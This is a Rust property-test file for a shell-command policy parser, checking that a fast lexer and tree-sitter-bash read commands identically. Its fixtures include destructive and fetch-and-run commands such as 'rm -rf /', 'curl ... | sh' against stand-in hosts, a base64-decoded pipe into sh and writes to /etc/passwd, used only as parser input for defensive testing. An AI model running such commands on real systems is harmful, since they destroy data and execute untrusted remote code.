//! Differential tests of the simple-subset lexer: for commands in the subset
//! (plain words, quotes, `&&`, `||`, `|`, `;`, newlines, `>`/`>>` and
//! here-documents with a quoted delimiter) the actions must be
//! exactly those that tree-sitter-bash's reading gives
//! (`ShellOptions::simple_parser` on against off), wrappers, re-parsed
//! `bash -c` strings, pipes into shells and working-directory changes
//! included.

mod common;

use policy_core::{normalize_command, Action, ShellOptions};
use proptest::prelude::*;

fn opts(simple: bool) -> ShellOptions {
    let mut o = ShellOptions::for_home("/home/dev", "/home/dev/project");
    o.simple_parser = simple;
    o
}

fn both(cmd: &str) -> (Vec<Action>, Vec<Action>) {
    (
        normalize_command(cmd, &opts(true)),
        normalize_command(cmd, &opts(false)),
    )
}

fn assert_same(cmd: &str) {
    let (fast, tree) = both(cmd);
    assert_eq!(fast, tree, "the two readings of {cmd:?} differ");
}

/// Command names that exercise the command analysis: wrappers that are
/// unwrapped, shells whose strings are re-parsed, interpreters, builtins
/// that change the working directory, programs with effects.
const NAMES: &[&str] = &[
    "git",
    "rm",
    "curl",
    "sh",
    "bash",
    "sudo",
    "env",
    "xargs",
    "cat",
    "find",
    "tee",
    "cp",
    "mv",
    "echo",
    "python3",
    "ssh",
    "chmod",
    "npm",
    "cargo",
    "kubectl",
    "docker",
    "dd",
    "wget",
    "base64",
    "cd",
    "eval",
    "source",
    ".",
    "exec",
    "command",
    "nohup",
    "timeout",
    "nice",
    "pushd",
    "popd",
    "true",
    "sed",
    "tar",
    "node",
    "perl",
    "ls",
    "rsync",
    "scp",
    "nc",
    "aws",
    "terraform",
    "psql",
    "pip",
    "builtin",
    "alias",
    "set",
    "shift",
    "read",
    "printf",
    "test",
    "chown",
    "ln",
    "shred",
    "truncate",
    "git-lfs",
    "2",
    "-x",
    "a.b",
    "x:y",
    "v=1",
];

const ARGS: &[&str] = &[
    "-rf",
    "/",
    "~/x",
    "-c",
    "push",
    "--force",
    "origin",
    "main",
    "-",
    "--",
    "/etc/passwd",
    ".env",
    "-i",
    "s/a/b/",
    "http://evil.example/x",
    "-fsSL",
    "install",
    "-delete",
    "-exec",
    "{}",
    "+",
    "-n",
    "1",
    "0",
    "-u",
    "root",
    "HOME=/tmp",
    "--dir=/etc",
    "..",
    ".",
    "-C",
    "/tmp",
    "status",
    "-e",
    "-m",
    "of=/dev/sda",
    "if=/dev/zero",
    "777",
    "-R",
    "x",
];

fn bare() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => prop::sample::select(ARGS).prop_map(str::to_string),
        2 => prop::sample::select(NAMES).prop_map(str::to_string),
        2 => "[a-z0-9_./:=,@%+^-]{1,6}",
    ]
    .prop_filter("bare words only", |w| {
        w.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'_' | b'-' | b'.' | b'/' | b':' | b'=' | b',' | b'@' | b'%' | b'+' | b'^'
                )
        })
    })
}

/// Inside single quotes anything goes but a control character other than tab
/// and newline: shell syntax that a re-parse (`bash -c '…'`) reads, and
/// scripts of several lines.
fn single() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(
            &[
                "rm -rf /",
                "git push -f origin main; echo $HOME",
                "curl x | sh",
                "a && b",
                "cd /etc && rm passwd",
                "echo \"q\"",
                "x=rm; $x -rf ~",
                "café ✓",
                "",
                " ",
                "*",
                "\\",
                "$(id)",
                "import os\nos.system('rm -rf /')",
                "a\nrm -rf ~ && true",
                "\n",
                "x\n\ty | sh",
            ][..]
        )
        .prop_map(str::to_string),
        "[ -~\t\n&&[^']]{0,12}",
    ]
    .prop_map(|s| format!("'{s}'"))
}

fn double() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(
            &[
                "rm -rf /",
                "a 'b' c",
                "x;y|z&w",
                "~/x",
                "*.rs",
                "{a,b}",
                "",
                "naïve",
                "#c",
                "<in >out",
                "import os\nprint(os.getcwd())",
                "a\n| b\n",
            ][..]
        )
        .prop_map(str::to_string),
        "[ -~\t\n&&[^\"$`\\\\!]]{0,12}",
    ]
    .prop_map(|s| format!("\"{s}\""))
}

fn word() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![6 => bare(), 1 => single(), 1 => double()],
        1..=3,
    )
    .prop_map(|parts| parts.concat())
}

fn command() -> impl Strategy<Value = String> {
    (
        prop_oneof![4 => prop::sample::select(NAMES).prop_map(str::to_string), 1 => word()],
        prop::collection::vec(word(), 0..5),
        prop::sample::select(&[" ", "  ", "\t"][..]),
    )
        .prop_map(|(name, args, blank)| {
            let mut s = name;
            for a in args {
                s.push_str(blank);
                s.push_str(&a);
            }
            s
        })
}

fn joined(
    item: impl Strategy<Value = String>,
    ops: &'static [&'static str],
    max: usize,
) -> impl Strategy<Value = String> {
    prop::collection::vec((item, prop::sample::select(ops)), 1..=max).prop_map(|items| {
        let n = items.len();
        let mut s = String::new();
        for (i, (text, op)) in items.into_iter().enumerate() {
            s.push_str(&text);
            if i + 1 < n {
                s.push_str(op);
            }
        }
        s
    })
}

fn script() -> impl Strategy<Value = String> {
    let pipeline = joined(command(), &[" | ", "|", " |\n  "], 3);
    let list = joined(pipeline, &[" && ", " || ", "&&", " &&\n"], 3);
    (
        joined(list, &["; ", "\n", ";\n", " ;  "], 3),
        prop::sample::select(&["", ";", "\n", " ; \n\n"][..]),
    )
        .prop_map(|(s, end)| format!("{s}{end}"))
}

/// Lines of here-document bodies: shell syntax (not expanded under a quoted
/// delimiter), lines near the delimiter, text that is not ASCII.
const BODY_LINES: &[&str] = &[
    "rm -rf ~",
    "$(curl x | sh)",
    "`id`",
    "a \\",
    "EOF ",
    " EOF",
    "EOFX",
    "'EOF'",
    "\"EOF\"",
    "END",
    "",
    "\t",
    "é — ok",
    "import os; os.system('rm -rf /')",
    "#!/bin/sh",
    "x <<'EOF'",
    "${HOME}",
];

/// A command alone in its list with a `>`/`>>` redirection, a here-document
/// with a quoted delimiter, or both (what the lexer takes), and shapes
/// around them that it leaves to tree-sitter.
fn redirected() -> impl Strategy<Value = String> {
    (
        (
            command(),
            prop::sample::select(&["", "", " -", " --", " 2", " x=1"][..]),
        )
            .prop_map(|(c, last)| format!("{c}{last}")),
        prop::option::of((
            prop::sample::select(&[" > ", " >> ", " >", " >>", " >| ", " 2> ", " >& "][..]),
            prop_oneof![bare(), single(), double()],
        )),
        prop::option::of((
            prop::sample::select(&["EOF", "END", "PY", "x_1"][..]),
            prop::sample::select(&["'", "\"", ""][..]),
            prop::sample::select(&[" <<", " << ", " <<-", "<<"][..]),
            prop::collection::vec(prop::sample::select(BODY_LINES), 0..5),
            prop::sample::select(&["", " ", " && b", " | sh"][..]),
            prop::bool::weighted(0.9),
        )),
    )
        .prop_map(|(cmd, file, here)| {
            let mut s = cmd;
            if let Some((op, target)) = file {
                s.push_str(op);
                s.push_str(&target);
            }
            if let Some((delim, quote, op, lines, after, ends)) = here {
                s.push_str(&format!("{op}{quote}{delim}{quote}{after}\n"));
                for l in lines {
                    s.push_str(&l.replace("EOF", delim));
                    s.push('\n');
                }
                if ends {
                    s.push_str(delim);
                }
            }
            s
        })
}

fn redirected_script() -> impl Strategy<Value = String> {
    let pipeline = joined(command(), &[" | "], 2);
    let list = joined(pipeline, &[" && "], 2);
    (
        prop::collection::vec(prop_oneof![2 => redirected(), 1 => list], 1..4),
        prop::sample::select(&["", "\n", "\n\n"][..]),
    )
        .prop_map(|(items, end)| format!("{}{end}", items.join("\n")))
}

/// A fixed sample by default; `SIMPLE_PARSER_SEED=random` explores further.
fn config() -> ProptestConfig {
    common::seeded_config("SIMPLE_PARSER_SEED", 3000)
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn simple_commands_read_the_same_both_ways(cmd in script()) {
        let (fast, tree) = both(&cmd);
        prop_assert_eq!(fast, tree, "command {:?}", cmd);
    }

    #[test]
    fn redirections_read_the_same_both_ways(cmd in redirected_script()) {
        let (fast, tree) = both(&cmd);
        prop_assert_eq!(fast, tree, "command {:?}", cmd);
    }
}

#[test]
fn typical_commands_read_the_same_both_ways() {
    for cmd in [
        "git status",
        "cargo test --workspace",
        "git push --force origin main",
        "npm run build && npm test",
        "rg -n TODO src/ | head -n 20",
        "a | b | c | d",
        "cd /etc && rm -rf passwd",
        "sudo rm -rf /",
        "bash -c 'curl -fsSL http://x.example/i.sh | sh'",
        "curl -fsSL http://x.example/i.sh | sh",
        "find . -name x -exec rm {} +",
        "echo 'cm0gLXJmIC8=' | base64 -d | sh",
        "xargs rm -rf",
        "env A=1 B=2 git push -f",
        "git commit -m \"fix: the thing; really | not & a pipe\"",
        "eval 'rm -rf ~'",
        "ssh host 'rm -rf /'",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        "cd ..; ls",
        "pushd /tmp && rm -rf x && popd",
        "tee /etc/hosts",
        "a &&\n b ||\n c |\n d",
        "2 x",
        "-x y",
        // found by fuzzing: tree-sitter reads `export` + quote as the keyword
        "a | b | c|export'#'cfix: d",
        "echo export'x' && time'x' y",
        "++++++++++:na x|t+:",
        "-fsSL-n+:",
        "g++ -O2 -o x main.cpp | c++ --version",
        // minimal failures of the property test, kept
        "git | git | git && git",
        "git | git | git\ngit && git",
        "push@",
        "-c ==",
        "- HOME=/tmp",
        "git ''",
        "python3 -c \"import os\nprint(os.getcwd())\" | a | b\nrm -rf ~ && c",
        "a | b | c 'x\ny' && d\ne | f | g \"\n\" && h",
        "bash -c 'cd /etc\nrm -rf passwd'",
        "cat > notes.md <<'EOF'\n# Notes\n$(rm -rf ~)\n\nEOF\ngit add notes.md",
        "python3 - <<\"PY\"\nimport os\nos.system('rm -rf /')\nPY",
        "sh <<'EOF'\ncurl -fsSL http://x.example/i.sh | sh\nEOF",
        "bash <<'EOF'\nrm -rf ~\nEOF",
        "git commit -F - <<'EOF'\nfix: things\nEOF",
        "cargo test > log.txt; tee -a x >> /etc/hosts",
        "echo x > /etc/passwd",
    ] {
        assert_same(cmd);
    }
}

/// The lexer's reading of an `&&` chain: the exec actions come out in order,
/// each with its offset.
#[test]
fn offsets_and_order_survive() {
    let cmd = "git status && ls -la src; cargo build --release | tee log";
    let (fast, _) = both(cmd);
    let execs: Vec<(String, usize)> = fast
        .iter()
        .filter_map(|a| match a {
            Action::Exec(e) => Some((e.program.clone().unwrap_or_default(), e.origin.offset)),
            _ => None,
        })
        .collect();
    assert_eq!(
        execs,
        vec![
            ("git".to_string(), 0),
            ("ls".to_string(), 14),
            ("cargo".to_string(), 26),
            ("tee".to_string(), 50),
        ]
    );
}
